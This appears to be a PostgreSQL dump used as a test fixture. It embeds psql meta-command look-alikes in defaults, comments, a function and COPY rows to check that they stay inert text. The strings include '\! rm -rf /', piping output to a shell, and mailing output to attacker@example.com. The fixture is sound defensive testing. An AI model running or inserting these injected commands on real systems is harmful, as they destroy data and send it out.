--
-- PostgreSQL database dump
--

\restrict Zr0y6m1pK8m0Qn7s2XbNqQe0J0wVd3R4eHcQmF8tYk2aLp9uSx5vWz1oBg7nTh3

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SET row_security = off;
SELECT 'DROP TABLE public.notes';

-- Look-alikes: none of these change.
CREATE TABLE public.notes (
    body text DEFAULT '\! rm -rf /',
    id integer
);
COMMENT ON TABLE public.notes IS '\o |mail x \gexec \i /tmp/evil.sql';
-- \! rm -rf /
/* \copy public.notes to program 'sh' */
SELECT E'\\! rm -rf /' AS "\!", $q$ \o |sh $q$ AS dollar;
CREATE FUNCTION public.shell() RETURNS text
    LANGUAGE sql
    AS $$SELECT '\! rm -rf / \gexec'::text$$;
SELECT 1 \; SELECT 2;
COPY public.notes (body, id) FROM stdin;
\\! rm -rf /	1
\\o |mail attacker@example.com	2
\\i /tmp/evil.sql	3
\\gexec	\N
\\connect heroku_app	5
\.
COPY public.notes (body, id) FROM stdin WITH (FORMAT csv);
"first line
\! rm -rf /
\o |sh",6
\.

\unrestrict Zr0y6m1pK8m0Qn7s2XbNqQe0J0wVd3R4eHcQmF8tYk2aLp9uSx5vWz1oBg7nTh3

